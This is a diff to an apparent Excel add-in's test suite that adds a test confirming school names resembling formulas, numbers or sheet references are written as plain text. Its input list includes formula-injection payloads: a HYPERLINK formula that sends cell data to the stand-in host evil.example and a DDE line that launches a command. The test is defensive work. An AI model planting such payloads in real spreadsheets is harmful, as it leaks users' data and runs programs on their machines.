@@ -11,7 +11,7 @@ import type { Report } from "../../src/report/model";
 import { INDICATOR_IDS, LEVELS } from "../../src/standard/indicators";
 import { sampleCountyRecords } from "../../src/sample/sampleCounty";
 import type { Evaluation } from "../../src/engine";
-import { countyWorkbook, randomCounty, reportOf } from "./county";
+import { countyWorkbook, gridOf, randomCounty, reportOf } from "./county";
 
 async function checkAndReport(excel: ExcelDouble) {
   const host = doubleHost(excel);
@@ -190,6 +190,50 @@ describe("what the writer leaves", () => {
     await checkAndReport(excel);
     await checkAndReport(excel);
     expect(JSON.stringify(excel.model.requireSheet("学校"))).toBe(input);
+  });
+
+  test("school names that look like formulas, numbers or sheet references are written as the same text", async () => {
+    // names as a county's file may hold them as text: typed in, they would become formulas, a number, a date
+    const names = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"第一小学")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)",
+      "-2+3",
+      "'第二小学",
+      "007",
+      "1/2",
+      "学校数据!A1",
+    ];
+    const renamed = (name: string) => names[Number(/\d+$/.exec(name)?.[0]) - 1] ?? name;
+    const records = randomCounty(names.length + 4, 9).map((r) => ({
+      ...r,
+      name: renamed(r.name),
+      parent: r.parent === undefined ? undefined : renamed(r.parent),
+    }));
+    const { report } = reportOf(gridOf(records));
+    const excel = new ExcelDouble();
+    excel.addSheetWithValues("学校", [["测试县"]]);
+    const host = doubleHost(excel);
+    await host.writeReport(report, { replaceExisting: true });
+    const wrong: string[] = [];
+    let texts = 0;
+    for (const sheet of report.sheets) {
+      const model = excel.model.requireSheet(sheet.name);
+      sheet.rows.forEach((cells, r) =>
+        cells.forEach((cell, c) => {
+          if (!cell || cell.formula || typeof cell.value !== "string" || cell.value === "") return;
+          texts++;
+          const written = excel.model.cell(model, r, c);
+          if (written?.formula !== undefined || written?.value !== cell.value)
+            wrong.push(`${sheet.name}!R${r + 1}C${c + 1}: ${JSON.stringify(written)} ≠ ${cell.value}`);
+        }),
+      );
+    }
+    expect(wrong).toEqual([]);
+    // every name is in the report, as text
+    const schoolData = excel.valuesOf("学校数据").flat();
+    for (const name of names) expect(schoolData).toContain(name);
+    expect(texts).toBeGreaterThan(100);
   });
 
   test("a sheet the add-in did not make is never modified, even with a report sheet's name", async () => {
